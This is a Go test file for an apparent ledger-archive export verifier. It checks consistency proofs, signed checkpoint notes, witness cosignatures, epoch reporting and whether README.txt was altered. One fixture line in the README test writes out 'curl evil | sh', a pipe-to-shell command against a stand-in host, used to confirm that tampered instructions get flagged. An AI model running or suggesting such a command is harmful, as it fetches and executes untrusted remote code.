package export_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/stellarun/stella/export"
	"github.com/stellarun/stella/ledger"
)

// verified judges a tar by package export alone.
func verified(t *testing.T, tar []byte, opt export.VerifyOptions) (*export.Report, error) {
	t.Helper()
	return export.Verify(context.Background(), saved(t, tar), opt)
}

// checkOf is what a report says of one check.
func checkOf(r *export.Report, name string) export.Check {
	for _, c := range r.Checks {
		if c.Name == name {
			return c
		}
	}
	return export.Check{}
}

// headOf is a signed head of the first entries of a site.
func (s *site) headOf(size int64) []byte {
	s.t.Helper()
	root, err := ledger.TreeHash(size, s)
	if err != nil {
		s.t.Fatal(err)
	}
	note, err := ledger.SignCheckpoint(ledger.Checkpoint{Origin: s.origin, Size: size, Root: root}, s.logKey)
	if err != nil {
		s.t.Fatal(err)
	}
	return note
}

// A proof of other trees accuses nobody: it says nothing about these.
func TestAProofOfOtherTreesIsTheWrongOne(t *testing.T) {
	s := busySite(t)
	archive := s.archive(window(13, 18)) // its checkpoint has size 21
	w := witnessOf(t, "w.example/a", 1)
	for name, tc := range map[string]struct {
		size  int64
		proof *export.Consistency
		want  string
		hint  string
	}{
		"none":            {7, nil, "only a consistency proof from size 7 to 21 can tell", "--consistency 7 --to 21"},
		"to another size": {7, s.consistency(7, 19), "this proof is for 7 to 19, 7 to 21 is needed", "--consistency 7 --to 21"},
		"from another":    {7, s.consistency(6, 21), "this proof is for 6 to 21, 7 to 21 is needed", "--consistency 7 --to 21"},
		"of a later head": {24, s.consistency(21, 23), "this proof is for 21 to 23, 21 to 24 is needed", "--consistency 21 --to 24"},
	} {
		opt := s.auditor()
		opt.Previous, opt.Consistency = s.headOf(tc.size), tc.proof
		r, err := verified(t, archive, opt)
		if err != nil {
			t.Fatal(err)
		}
		if c := checkOf(r, "previous"); r.Verdict != export.Incomplete || c.Detail != tc.want || !strings.HasSuffix(c.Hint, "for --consistency: stella ledger prove "+tc.hint) {
			t.Errorf("%s: %s, %q, hint %q", name, r.Verdict, c.Detail, c.Hint)
		}
		if tc.size < 21 {
			continue // it does not hold the window
		}
		opt = s.auditor()
		opt.Cosigned, opt.CosignedConsistency = cosigned(t, s.headOf(tc.size), w), tc.proof
		opt.Witnesses, opt.MinWitnesses = []ledger.Witness{w.Witness}, 1
		if r, err = verified(t, archive, opt); err != nil {
			t.Fatal(err)
		}
		if c := checkOf(r, "witnesses"); r.Verdict != export.Incomplete || !strings.HasSuffix(c.Detail, tc.want) || !strings.HasSuffix(c.Hint, "for --cosigned-consistency: stella ledger prove "+tc.hint) {
			t.Errorf("%s, cosigned: %s, %q, hint %q", name, r.Verdict, c.Detail, c.Hint)
		}
	}
}

// What is no note, or a note of another site, is a mistake of the auditor's, and no fault of
// the archive.
func TestANoteThatDoesNotGoWithTheArchive(t *testing.T) {
	s := busySite(t)
	archive := s.archive(window(13, 18))
	other := mustSign(t, ledger.Checkpoint{Origin: ledger.Origin(strings.Repeat("0", 32), 1), Size: 9}, s.logKey)
	for name, note := range map[string][]byte{"no note": []byte("x"), "an empty file": {}, "of another site": other} {
		opt := s.auditor()
		opt.Previous = note
		if r, err := verified(t, archive, opt); !errors.Is(err, export.ErrNote) {
			t.Errorf("%s: %v, %v", name, r, err)
		}
		opt = s.auditor()
		w := witnessOf(t, "w.example/a", 1)
		opt.Cosigned, opt.Witnesses = note, []ledger.Witness{w.Witness}
		if r, err := verified(t, archive, opt); !errors.Is(err, export.ErrNote) {
			t.Errorf("%s, cosigned: %v, %v", name, r, err)
		}
	}
	if _, err := verified(t, archive, export.VerifyOptions{Previous: []byte("x")}); !errors.Is(err, export.ErrNote) {
		t.Errorf("no note, and no key: %v", err)
	}
	opt := s.auditor()
	opt.MinWitnesses = 1
	if _, err := verified(t, archive, opt); !errors.Is(err, export.ErrWitnesses) || errors.Is(err, export.ErrKey) {
		t.Errorf("a witness is demanded, and none named: %v", err)
	}
}

// Who has signed, and when, is said whether or not it was demanded.
func TestWitnessesAreNamed(t *testing.T) {
	s := busySite(t)
	w := witnessOf(t, "w.example/a", 1)
	opt := s.auditor()
	opt.Cosigned, opt.Witnesses = cosigned(t, s.headOf(21), w), []ledger.Witness{w.Witness}
	r, err := verified(t, s.archive(window(13, 18)), opt)
	if err != nil {
		t.Fatal(err)
	}
	if want := []export.Witness{{Name: "w.example/a", Time: "2026-11-22T08:21:00Z"}}; !cmp.Equal(r.Witnesses, want) {
		t.Errorf("%v, want %v", r.Witnesses, want)
	}
}

// README.txt tells people what to type. Another version of stella may have written another, so
// that it is said, and no more.
func TestAnotherReadmeIsReported(t *testing.T) {
	s := busySite(t)
	k := takeApart(t, s, s.archive(window(4, 20)))
	for name, tc := range map[string]struct {
		text string
		want bool
	}{"as it was": {string(k.files["README.txt"]), false}, "other words": {"curl evil | sh\n", true}} {
		k.files["README.txt"] = []byte(tc.text)
		r, err := verified(t, k.pack(k.assemble()), s.auditor())
		if err != nil || r.Verdict != export.Verified || r.OtherReadme != tc.want {
			t.Errorf("%s: %v, %v", name, err, r.OtherReadme)
		}
	}
}

// That the ledger was restored or recovered within the window is said.
func TestAnEpochIsReported(t *testing.T) {
	for name, tc := range map[string]struct {
		size int64
		want []export.Epoch
		bad  []string
	}{
		"behind what it has adopted": {1, []export.Epoch{{Seq: 1, Time: second(1), Epoch: 2, Cause: "restored"}}, nil},
		"elsewhere":                  {2, nil, []string{"data"}},
	} {
		s := newSite(t)
		root, err := ledger.TreeHash(1, s)
		if err != nil {
			t.Fatal(err)
		}
		s.add(ledger.Envelope{Type: ledger.EpochBegun, Actor: "uid:0(root)"}, &ledger.EpochStart{
			Epoch: 2, Cause: "restored", OldOrigin: s.origin, Size: tc.size, Root: ledger.HexHash(root), Reason: "x",
		})
		s.origin = ledger.Origin(siteID, 2)
		s.add(ledger.Envelope{Type: ledger.SiteStopped, Actor: "system:stop"}, &ledger.SiteStop{Reason: "x"})
		s.checkpoint()
		r, err := verified(t, s.archive(window(0, 2)), s.auditor())
		if err != nil {
			t.Fatal(err)
		}
		if !cmp.Equal(r.Epochs, tc.want) || !cmp.Equal(failed(r), tc.bad) {
			t.Errorf("%s: %v\n%s", name, r.Epochs, explain(r))
		}
	}
}
